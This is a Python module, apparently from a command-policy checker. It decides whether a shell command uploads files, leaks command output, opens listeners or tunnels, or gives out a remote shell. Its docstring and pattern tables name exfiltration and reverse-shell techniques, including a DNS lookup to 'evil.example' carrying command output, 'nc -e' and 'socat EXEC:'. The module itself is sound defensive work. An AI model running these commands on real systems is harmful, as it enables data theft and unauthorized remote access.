"""Does one program's argv send files or command output over the network, or let others in?

Uploads (``curl -T``, ``-d @file``, ``-F x=@file``, ``wget --post-file``, ``scp`` or
``rsync`` to a remote destination, cloud copies to a bucket), data piped or redirected
into a network program (``nc``, ``ssh``, ``mail``), command output placed in a network
program's arguments (``curl "...?d=$(cat x)"``, ``dig $(whoami).evil.example``),
listeners and tunnels (``nc -l``, ``socat TCP-LISTEN``, ``ngrok``), and remote shells
(``nc -e``, ``socat EXEC:``, ``ssh -R``). Plain downloads and remote commands are left to
a person.
"""

from __future__ import annotations

import re

from taskcraft.policy import shell_args
from taskcraft.policy import shell_programs as known
from taskcraft.policy.shell_steps import Step, is_remote
from taskcraft.policy.shell_words import Bindings, skeleton


def _words(text: str) -> list[str]:
    return text.split()  # a call, so the linter keeps word lists as readable strings


_CURL_UPLOAD = ("-T", "--upload-file")
_CURL_DATA = (
    "-d",
    "--data",
    "--data-binary",
    "--data-ascii",
    "--data-raw",
    "--data-urlencode",
    "--json",
    "-F",
    "--form",
)
_WGET_UPLOAD = ("--post-file", "--body-file")
_NC_SHELL = re.compile(r"^-[A-Za-z]*[ec]|^--(exec|sh-exec|lua-exec)")
_NC_LISTEN = re.compile(r"^-[A-Za-z]*l|^--listen")
_COPY_SUBCOMMANDS = {"aws": ("cp", "mv", "sync"), "gsutil": ("cp", "mv", "rsync"), "rclone": ("copy", "sync", "move", "copyto", "moveto"), "s3cmd": ("put", "sync"), "azcopy": ("copy", "sync")}  # fmt: skip
_LOOKUPS = frozenset(
    _words("""dig nslookup host ping ping6 traceroute whois curl wget nc ncat netcat telnet ssh""")
)


def sends_out(view: tuple[str, ...], step: Step, bindings: Bindings) -> str | None:
    name = skeleton(view[0])
    fed = step.command.stdin_pipe or any(
        op in ("<", "<>") or (op in ("<<", "<<-", "<<<") and _carries_output(target))
        for op, target in step.command.redirects
    )
    if name == "sftp" and any(op in ("<<", "<<-", "<<<") for op, _ in step.command.redirects):
        return "sftp runs transfer commands from a here-document"
    words = view[1:]
    if name in known.TUNNELS:
        return f"{name} opens a tunnel into the machine"
    if name in _LOOKUPS and any(
        sub.kind in ("$(", "`") for word in words for sub in step.script.substitution(word)
    ):
        return f"{name} sends command output over the network"
    if any("/dev/tcp/" in w or "/dev/udp/" in w for w in words):
        return f"{name} opens a network connection through /dev/tcp"
    check = _CHECKS.get(name)
    return check(view, fed) if check else None


def _carries_output(text: str) -> bool:
    """A here-document or here-string that holds command output (``<<< "$(cat .env)"``)."""
    return shell_args.has_placeholder(text) or "$(" in text or "`" in text


def _curl(view: tuple[str, ...], fed: bool) -> str | None:
    for option, value in _option_pairs(view):
        if _matches(option, _CURL_UPLOAD):
            return f"curl {option} uploads {value!r}"
        if _matches(option, _CURL_DATA) and ("@" in value or "=<" in value):
            if value.lstrip("@") in ("-", "") and not fed:
                continue
            return f"curl {option} {value!r} sends a file's contents"
    return None


def _wget(view: tuple[str, ...], fed: bool) -> str | None:
    for option, value in _option_pairs(view):
        if _matches(option, _WGET_UPLOAD):
            return f"wget {option} uploads {value!r}"
    return None


def _netcat(view: tuple[str, ...], fed: bool) -> str | None:
    name = skeleton(view[0])
    for word in view[1:]:
        if _NC_SHELL.match(word):
            return f"{name} {word} hands a shell to the network"
        if _NC_LISTEN.match(word):
            return f"{name} {word} listens for connections"
    if fed:
        return f"{name} sends what is piped or redirected into it"
    return None


def _socat(view: tuple[str, ...], fed: bool) -> str | None:
    addresses = " ".join(view[1:]).lower()
    if re.search(r"\b(exec|system):", addresses):
        return "socat connects a program to the network"
    if "listen" in addresses:
        return "socat listens for connections"
    if re.search(r"\b(file|open|gopen|create):", addresses) or fed:
        return "socat sends a file over the network"
    return None


def _copy(view: tuple[str, ...], fed: bool) -> str | None:
    name = skeleton(view[0])
    operands = [w for w in shell_args.operands(view) if not w.startswith("-")]
    uploads = operands and any(not is_remote(source) for source in operands[:-1])
    if (
        name in ("scp", "rsync", "sftp")
        and operands
        and is_remote(operands[-1])
        and (uploads or name == "sftp")
    ):
        return f"{name} copies files to {operands[-1]!r}"
    if name == "sftp" and (fed or any(w.startswith("-b") for w in view[1:])):
        return "sftp runs transfer commands nobody has seen"
    subcommands = _COPY_SUBCOMMANDS.get(name)
    if subcommands and operands:
        words = operands[1:] if name == "aws" and operands[0] == "s3" else operands
        if (
            words
            and words[0] in subcommands
            and len(words) >= 3
            and is_remote(words[-1])
            and not is_remote(words[1])
        ):
            return f"{name} {words[0]} uploads to {words[-1]!r}"
    if name == "az" and "upload" in operands:
        return "az uploads files"
    return None


def _ssh(view: tuple[str, ...], fed: bool) -> str | None:
    for word in view[1:]:
        if re.match(r"^-[A-Za-z]*[RLDw]", word) and not word.startswith("--"):
            return f"ssh {word} opens a tunnel"
        if word.lower().startswith(("-oproxycommand", "-olocalcommand", "permitlocalcommand")):
            return "ssh runs a local command nobody has seen"
    if fed:
        return "ssh sends what is piped or redirected into it to another machine"
    return None


def _mail(view: tuple[str, ...], fed: bool) -> str | None:
    name = skeleton(view[0])
    if any(w in ("-a", "-A", "--attach") or w.startswith("--attach=") for w in view[1:]):
        return f"{name} mails a file"
    if fed:
        return f"{name} mails what is piped or redirected into it"
    return None


def _openssl(view: tuple[str, ...], fed: bool) -> str | None:
    if len(view) > 1 and view[1] in ("s_client", "s_server"):
        if view[1] == "s_server":
            return "openssl s_server listens for connections"
        if fed:
            return "openssl s_client sends what is piped into it"
    return None


def _telnet(view: tuple[str, ...], fed: bool) -> str | None:
    return "telnet sends what is piped into it" if fed else None


def _server(view: tuple[str, ...], fed: bool) -> str | None:
    name = skeleton(view[0])
    if name in ("httpd", "php") and ("-S" in view or name == "httpd"):
        return f"{name} serves the workspace to the network"
    if name == "ruby" and any(w.startswith("-run") for w in view[1:]):
        return "ruby -run serves the workspace to the network"
    return None


def _git(view: tuple[str, ...], fed: bool) -> str | None:
    words = [w for w in view[1:] if not w.startswith("-")]
    if words[:1] == ["push"] and any(
        "://" in w or re.match(r"^[\w.+-]+@[\w.-]+:", w) for w in words[1:]
    ):
        return "git push to a URL sends the repository where no configured remote points"
    return None


def _option_pairs(view: tuple[str, ...]) -> list[tuple[str, str]]:
    pairs: list[tuple[str, str]] = []
    for index, word in enumerate(view[1:], start=1):
        following = view[index + 1] if index + 1 < len(view) else ""
        if word.startswith("--"):
            name, has_value, value = word.partition("=")
            pairs.append((name, value if has_value else following))
        elif word.startswith("-") and len(word) > 1:
            pairs.append((word[:2], word[2:] or following))
            for letter in word[1:-1] if len(word) > 2 else "":
                pairs.append((f"-{letter}", ""))
    return pairs


def _matches(option: str, options: tuple[str, ...]) -> bool:
    return option in options or (
        option.startswith("--")
        and len(option) > 4
        and any(o.startswith(option) for o in options if o.startswith("--"))
    )


_CHECKS = {
    "curl": _curl,
    "wget": _wget,
    **dict.fromkeys(("nc", "ncat", "netcat"), _netcat),
    "socat": _socat,
    **dict.fromkeys(
        ("scp", "rsync", "sftp", "aws", "gsutil", "rclone", "s3cmd", "azcopy", "az"), _copy
    ),
    **dict.fromkeys(("ssh", "dbclient"), _ssh),
    **dict.fromkeys(sorted(known.MAILERS), _mail),
    "openssl": _openssl,
    "git": _git,
    "telnet": _telnet,
    **dict.fromkeys(("httpd", "php", "ruby"), _server),
}
